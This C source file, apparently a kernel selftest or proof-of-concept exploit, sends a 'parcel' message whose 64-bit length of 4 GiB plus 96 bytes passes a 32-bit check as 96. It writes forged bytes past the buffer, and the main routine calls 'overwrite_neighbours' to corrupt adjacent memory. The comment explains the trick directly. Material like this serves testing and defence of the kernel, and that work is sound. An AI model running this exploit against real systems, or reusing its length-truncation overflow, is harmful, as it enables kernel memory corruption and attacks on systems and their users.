// SPDX-License-Identifier: GPL-2.0-only
/*
 * A parcel of 4 GiB and 96 bytes. Where the length is checked it has 32 bits, and is 96. The
 * attacker need not have 4 GiB: the copy stops where there is no memory.
 */
#include "neighbours.h"

#define LENGTH	((1ull << 32) + SIZE)

static int send_very_long(int file, __u32 box)
{
	char bytes[SIZE + TOO_MANY] = "mine";
	struct parcel_segment segments[2] = {
		{ (uintptr_t)bytes, sizeof(bytes) },
		{ 0, LENGTH - sizeof(bytes) },
	};
	struct parcel_send send = {
		.handle = box,
		.flags = PARCEL_DONTWAIT,
		.segments = (uintptr_t)segments,
		.nr_segments = 2,
		.length = LENGTH,
	};

	memcpy(bytes + SIZE, forged, TOO_MANY);
	return parcel_send_as(file, &send);
}

int main(int argc, char **argv)
{
	attack_begin(argc, argv);
	overwrite_neighbours(send_very_long);
}
